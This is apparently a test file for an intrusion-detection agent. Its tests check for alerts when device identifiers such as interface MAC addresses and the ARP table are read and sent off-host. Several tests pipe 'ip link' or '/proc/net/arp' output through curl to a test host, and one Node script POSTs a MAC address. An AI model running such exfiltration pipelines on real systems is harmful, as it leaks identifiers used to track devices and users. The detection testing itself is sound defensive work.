# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""MACs read by rtnetlink (RTM_GETLINK), as `ip link`, glibc's getifaddrs() and Node's
os.networkInterfaces() read them: the reader is tainted and the addresses in the reply learnt."""
import os
import subprocess

from idslib import Agent, RULE_OFF_HOST, expect, expect_eq, sh

POLICY = """version: 1
identifiers:
  - name: mac-address
    netlink: [RTM_GETLINK]
""" + RULE_OFF_HOST


def macs():
    """This namespace's interface MACs, as sysfs has them (the loopback's zeros aside)."""
    out = set()
    for name in os.listdir("/sys/class/net"):
        with open("/sys/class/net/%s/address" % name) as f:
            mac = f.read().strip()
        if mac and mac != "00:00:00:00:00:00":
            out.add(mac)
    return out


def test_ip_link_piped_to_curl_is_confirmed(host):
    with Agent(policy_text=POLICY) as agent:
        r = subprocess.run(["sh", "-c", "ip -o link show | curl -s -o /dev/null --max-time 5 "
                            "--data-binary @- http://%s:8080/" % host.addr],
                           capture_output=True, timeout=20)
        expect_eq(0, r.returncode, "exit status of ip link | curl")
        a = agent.wait_alert(process__comm="curl")
    expect_eq("confirmed", a["confidence"], "confidence")
    ident = a["identifiers"][0]
    expect_eq("mac-address", ident["name"], "identifier")
    expect_eq("netlink", ident["source"], "identifiers[].source")
    expect("-pipe->" in (a.get("lineage") or ""), "ip in the lineage, got %r" % a.get("lineage"))
    expect_eq(8080, a["destination"]["port"], "destination.port")


NODE = """
const http = require("http");
const ifs = require("os").networkInterfaces();
const mac = Object.values(ifs).flat().map(i => i.mac).find(m => m && m !== "00:00:00:00:00:00");
const req = http.request({host: process.argv[1], port: 8080, method: "POST", path: "/v1/device"},
                         res => { res.resume(); res.on("end", () => console.log(process.pid)); });
req.on("error", e => { console.error(e.message); process.exit(1); });
req.end(JSON.stringify({mac: mac, platform: process.platform}));
"""


def test_node_network_interfaces_mac_is_confirmed(host):
    expect(macs(), "an interface with a MAC in this namespace")
    with Agent(policy_text=POLICY) as agent:
        r = subprocess.run(["node", "-e", NODE, host.addr], capture_output=True, text=True,
                           timeout=30)
        expect_eq(0, r.returncode, "node exit status (stderr %r)" % r.stderr)
        a = agent.wait_alert(process__pid=int(r.stdout.split()[-1]))
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("netlink", a["identifiers"][0]["source"], "identifiers[].source")


ARP_POLICY = """version: 1
identifiers:
  - name: router-mac
    netlink: [RTM_GETNEIGH]
    files: [/proc/net/arp]
""" + RULE_OFF_HOST


def neighbour_macs():
    with open("/proc/net/arp") as f:
        return [line.split()[3] for line in f.readlines()[1:]
                if len(line.split()) > 3 and line.split()[3] != "00:00:00:00:00:00"]


def test_arp_table_read_by_cat_and_sent_is_confirmed(host):
    """The kernel's ARP table, as `arp` and `cat /proc/net/arp` read it: every MAC in it is
    learnt, the reader tainted; the neighbour here is the test host, reached once first."""
    sh(["curl", "-s", "-o", "/dev/null", "--max-time", "5", "http://%s:8080/" % host.addr])
    expect(neighbour_macs(), "a neighbour in /proc/net/arp")
    with Agent(policy_text=ARP_POLICY) as agent:
        r = subprocess.run(["sh", "-c", "cat /proc/net/arp | curl -s -o /dev/null --max-time 5 "
                            "--data-binary @- http://%s:8080/" % host.addr],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
        expect_eq(0, r.returncode, "exit status of cat /proc/net/arp | curl")
        a = agent.wait_alert(process__comm="curl", confidence="confirmed")
    ident = a["identifiers"][0]
    expect_eq("router-mac", ident["name"], "identifier")
    expect_eq("file", ident["source"], "identifiers[].source")
    expect("-pipe->" in (a.get("lineage") or ""), "cat in the lineage, got %r" % a.get("lineage"))
